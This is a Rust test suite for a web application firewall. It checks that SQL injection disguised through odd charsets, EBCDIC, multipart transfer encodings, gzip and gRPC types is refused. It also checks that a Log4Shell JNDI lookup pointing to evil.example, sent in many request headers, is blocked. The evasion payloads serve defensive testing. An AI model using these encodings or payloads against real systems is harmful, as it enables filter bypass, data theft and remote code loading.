//! Attacks where only some readers find them: other charsets, codings, parts and types. Each was a
//! way past the WAF once.

use std::io::Write as _;

use flate2::Compression;
use flate2::write::GzEncoder;
use mantlet_testkit::wire;
use mantlet_testkit::{Answer, FakeUpstream};

use super::common::{assert_refused, gate};
use super::{SQL, escaped, get, post};

const FORM: &str = "application/x-www-form-urlencoded";

/// One part of a body of several parts.
fn part(head: &str, value: &str) -> String {
    format!("--B\r\nContent-Disposition: form-data; {head}\r\n\r\n{value}\r\n")
}

/// `text` in quoted-printable.
fn quoted_printable(text: &str) -> String {
    text.bytes().map(|byte| format!("={byte:02X}")).collect()
}

// covers: ETSM-13, YMERA-09 (binary)
#[test]
fn etsm_d10_charsets_that_readers_pass_over_hide_nothing() {
    let upstream = FakeUpstream::answering(Answer::ok("ok"));
    let gate = gate(&upstream, "");
    let form = format!("q={}", escaped(SQL));
    for (charset, before) in [
        ("utf-16", &b""[..]),
        ("utf-32", b""),
        ("utf-8", b"a\0b\0&"),
        ("utf-8", b"\xff\xfe&"),
        ("shift_jis", b""),
    ] {
        let body = [before, form.as_bytes()].concat();
        let answer = post(gate.address(), &format!("{FORM}; charset={charset}"), body);
        assert_refused(&gate, &answer, (403, "waf-attack"), charset);
    }
    let json = format!("{{\"q\":\"{SQL}\"}}");
    let answer = post(gate.address(), "application/json; charset=utf-16", &json);
    assert_refused(&gate, &answer, (403, "waf-attack"), "JSON that is not UTF-16");
    let filled = format!("{{\"a\":\"{}\",\"q\":\"{SQL}\"}}", "\x7f".repeat(2_000));
    let answer = post(gate.address(), "text/plain", filled);
    assert_refused(&gate, &answer, (403, "waf-attack"), "a text of control characters");
    // `1' or 1=1` in EBCDIC: a server that is told `ibm037` reads it, and nothing else does.
    let ebcdic = b"\xa7\x7e\xf1\x7d\x40\x96\x99\x40\xf1\x7e\xf1";
    for (charset, refused) in [
        ("ibm037", (403, "waf-attack")),
        ("IBM-037", (400, "waf-body")),
        ("\"cp500\"", (400, "waf-body")),
        ("ebcdic-us", (400, "waf-body")),
        ("cp1140", (400, "waf-body")),
    ] {
        let answer = post(gate.address(), &format!("{FORM}; charset={charset}"), ebcdic);
        assert_refused(&gate, &answer, refused, charset);
    }
    assert!(upstream.is_untouched(), "{:?}", upstream.requests());
    for charset in ["utf-8", "ISO-8859-1", "windows-1252", "ibm850", "gb2312", "euc-kr", "cp1252"] {
        let answer = post(gate.address(), &format!("{FORM}; charset={charset}"), "q=ordinary");
        assert_eq!(answer.status, 200, "{charset}");
    }
}

#[test]
fn etsm_d10_what_some_readers_take_for_a_field_is_looked_at() {
    let upstream = FakeUpstream::answering(Answer::ok("ok"));
    let gate = gate(&upstream, "");
    let send = |kind: &str, body: &str| post(gate.address(), kind, body);
    for head in ["name=\"id\"; filename=\"\"", "name=\"id\"; filename*=UTF-8''notes.txt"] {
        let answer = send("multipart/form-data; boundary=B", &(part(head, SQL) + "--B--\r\n"));
        assert_refused(&gate, &answer, (403, "waf-attack"), head);
    }
    let noise = part("name=\"f\"; filename=\"x\"", &"\0\x01".repeat(1_000));
    let plain = part("name=\"a\"", "ordinary");
    let form = format!("{noise}{plain}{}--B--\r\n", part("name=\"id\"", SQL));
    for kind in
        ["multipart/form-data,", "multipart/form-data x", "multipart/mixed", "multipart/related"]
    {
        let answer = send(&format!("{kind}; boundary=B"), &form);
        assert_refused(&gate, &answer, (403, "waf-attack"), kind);
    }
    for (what, head, value) in [
        (
            "UTF-16",
            "name=\"id\"\r\nContent-Type: text/plain; charset=utf-16le",
            SQL.chars().flat_map(|letter| [letter, '\0']).collect::<String>(),
        ),
        (
            "quoted-printable",
            "name=\"id\"\r\nContent-Transfer-Encoding: quoted-printable",
            quoted_printable(SQL),
        ),
        (
            "Base64",
            "name=\"id\"\r\nContent-Transfer-Encoding: base64",
            "MScgVU5JT04gU0VMRUNUIHBhc3N3b3JkIEZST00gdXNlcnMtLSA=".to_owned(),
        ),
    ] {
        let answer = send("multipart/form-data; boundary=B", &(part(head, &value) + "--B--\r\n"));
        assert_refused(&gate, &answer, (403, "waf-attack"), what);
    }
    let foreign = part("name=\"id\"\r\nContent-Type: text/plain; charset=ibm037", "x");
    let answer = send("multipart/form-data; boundary=B", &(foreign + "--B--\r\n"));
    assert_refused(&gate, &answer, (400, "waf-body"), "EBCDIC in a part");
    assert!(upstream.is_untouched(), "{:?}", upstream.requests());
    let picture = part("name=\"f\"; filename*=UTF-8''a.png", &"\0\x01' or 1=1--".repeat(200));
    let empty = part("name=\"none\"; filename=\"\"", "");
    let answer = send("multipart/form-data; boundary=B", &format!("{picture}{empty}--B--\r\n"));
    assert_eq!(answer.status, 200);
}

#[test]
fn separators_without_cookies_use_up_nothing() {
    let upstream = FakeUpstream::answering(Answer::ok("ok"));
    let gate = gate(&upstream, "");
    let cookies = format!("{}id={}", "; ".repeat(2_000), escaped(SQL));
    let answer = wire::get(gate.address(), "/", &[("Cookie", &cookies)]);
    assert_refused(&gate, &answer, (403, "waf-attack"), "separators");
    let pairs = format!("{}id={}", "&".repeat(2_000), escaped(SQL));
    let answer = get(gate.address(), &format!("/?{pairs}"));
    assert_refused(&gate, &answer, (403, "waf-attack"), "empty pairs");
    assert!(upstream.is_untouched());
}

#[test]
fn headers_that_applications_log_are_looked_at_or_never_passed_on() {
    let upstream = FakeUpstream::answering(Answer::ok("ok"));
    let gate = gate(&upstream, "");
    let attack = "${jndi:ldap://evil.example/a}";
    for header in [
        "User-Agent",
        "Referer",
        "X-Api-Version",
        "Accept-Language",
        "Accept",
        "Authorization",
        "Content-Type",
        "Origin",
        "If-None-Match",
        "X-Client-Id",
        "X-Correlation-Id",
        "From",
        "X-Request-Id",
        "Traceparent",
        "Tracestate",
        "X-Forwarded-For",
        "Forwarded",
        "Via",
        "Cache-Control",
        "Range",
        "Accept-Charset",
        "Content-Language",
        "Sec-Fetch-Mode",
    ] {
        let answer = wire::get(gate.address(), "/", &[(header, attack)]);
        let passed = upstream
            .requests()
            .iter()
            .any(|request| request.headers.iter().any(|(_, value)| value.contains("jndi")));
        assert!(!passed, "{header}: {}", answer.status);
        assert!(answer.status == 200 || (400..500).contains(&answer.status), "{header}");
    }
}

#[test]
fn a_coding_beside_identity_is_the_coding() {
    let upstream = FakeUpstream::answering(Answer::ok("ok"));
    let gate = gate(&upstream, "");
    let gzip = |text: &str| {
        let mut gzip = GzEncoder::new(Vec::new(), Compression::default());
        gzip.write_all(text.as_bytes()).unwrap();
        gzip.finish().unwrap()
    };
    let send = |coding: &str, body: &[u8]| {
        let headers = [("Content-Type", "application/json"), ("Content-Encoding", coding)];
        wire::request(gate.address(), "POST", "/", &headers, body)
    };
    let attack = gzip(&format!("{{\"id\":\"{SQL}\"}}"));
    for coding in ["identity, gzip", "gzip,identity", "gzip", " , gzip"] {
        assert_refused(&gate, &send(coding, &attack), (403, "waf-attack"), coding);
        assert_eq!(send(coding, &gzip("{\"id\":\"1\"}")).status, 200, "{coding}");
    }
    let twice = send("gzip, identity, gzip", &attack);
    assert_refused(&gate, &twice, (415, "waf-coding"), "two codings");
}

#[test]
fn a_type_of_grpc_over_http1_hides_nothing() {
    let upstream = FakeUpstream::answering(Answer::ok("ok"));
    let gate = gate(&upstream, "");
    let json = format!("{{\"id\":\"{SQL}\"}}");
    for kind in ["application/grpc", "application/grpc+json", "application/grpc;x"] {
        let answer = post(gate.address(), kind, &json);
        assert_refused(&gate, &answer, (403, "waf-attack"), kind);
    }
    assert!(upstream.is_untouched());
}

#[test]
fn a_large_body_of_ordinary_json_is_not_too_much() {
    let upstream = FakeUpstream::answering(Answer::ok("ok"));
    let gate = gate(&upstream, "[guards]\nbudget = \"60s\"\n");
    let entry = "{\"id\":4711,\"name\":\"O'Brien\",\"note\":\"it's 12' wide & \\\"new\\\"\",\
                 \"tags\":[\"a\",\"don't\"],\"url\":\"https://example.org/items/1?a=b\",\"ok\":true},";
    let mut json = String::from("[");
    while json.len() < 8_000_000 {
        json.push_str(entry);
    }
    json.push_str("{}]");
    let answer = post(gate.address(), "application/json", &json);
    assert_eq!(answer.status, 200, "{}", answer.text());
    json.truncate(json.len() - 4);
    json.push_str(&format!(",{{\"last\":\"{SQL}\"}}]"));
    let answer = post(gate.address(), "application/json", &json);
    assert_refused(&gate, &answer, (403, "waf-attack"), "at the end of it");
}
